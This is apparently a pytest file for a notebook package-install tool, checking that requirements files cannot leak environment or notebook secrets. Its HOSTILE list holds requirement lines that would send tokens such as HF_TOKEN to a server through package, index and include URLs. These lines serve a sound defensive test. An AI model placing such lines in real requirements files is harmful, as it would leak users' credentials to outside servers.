"""A requirements file of somebody else gets no secret of the environment or of the notebook."""

from __future__ import annotations

import pytest

import colabkit as ck
from colabkit.errors import ColabKitError, RequirementError
from colabkit.packages.request.pasted import read_file

SECRET = "CanaryVariableQ7x"  # noqa: S105 - nobody's
HOSTILE = [
    "x @ http://127.0.0.1:9/${HF_TOKEN}/x-1.0-py3-none-any.whl",
    "x @ http://127.0.0.1:9/${PLAIN_WORD}/x-1.0-py3-none-any.whl",
    "x @ git+http://127.0.0.1:9/${HF_TOKEN}",
    "git+http://127.0.0.1:9/${HF_TOKEN}",
    "--index-url http://127.0.0.1:9/${HF_TOKEN}/simple",
    "--extra-index-url=http://127.0.0.1:9/simple?key=$HF_TOKEN",
    "--find-links http://127.0.0.1:9/${HF_TOKEN}/",
    "-r http://127.0.0.1:9/${HF_TOKEN}/r.txt",
    "-c http://127.0.0.1:9/${MY_PASSWORD}/r.txt",
    "${HF_TOKEN}",
]


@pytest.mark.parametrize("line", HOSTILE)
def test_no_variable_of_the_environment_goes_into_an_address(tmp_path, monkeypatch, caplog, capfd, line):
    """Both uv and pip would fill in ${HF_TOKEN}, ask that server with it, and show it: refused first."""
    for name in ("HF_TOKEN", "PLAIN_WORD", "MY_PASSWORD"):
        monkeypatch.setenv(name, SECRET)
    path = tmp_path / "requirements.txt"
    path.write_text(f"{line}\n")
    for given in (path, f"-r {path}", f"!pip install -r {path}", line, f"!pip install {line}"):
        with pytest.raises(RequirementError) as caught:
            ck.install(given, dry_run=True)
        assert SECRET not in str(caught.value)
    assert SECRET not in caplog.text
    assert SECRET not in "".join(capfd.readouterr())


def test_a_file_gets_no_variable_of_the_notebook(tmp_path):
    """`{name}` is IPython's, of the line that the user typed; in a file it is not filled in, as with pip."""
    secret = "hf_" + "a" * 30
    path = tmp_path / "requirements.txt"
    path.write_text("--index-url http://127.0.0.1:9/{secret}/simple\n")
    with pytest.raises(ColabKitError) as caught:
        ck.install(f"-r {path}", dry_run=True)
    assert secret not in str(caught.value)


def test_a_password_of_an_index_may_come_from_a_variable(tmp_path, monkeypatch):
    """As pip's documentation has it; it is shown as three stars."""
    monkeypatch.setenv("INDEX_TOKEN", SECRET)
    path = tmp_path / "requirements.txt"
    path.write_text("--index-url http://me:${INDEX_TOKEN}@127.0.0.1:9/simple\nnumpy\n")
    reading = read_file(path)
    assert reading.index_url == f"http://me:{SECRET}@127.0.0.1:9/simple"
    assert reading.notices == ("packages come from http://***@127.0.0.1:9/simple",)
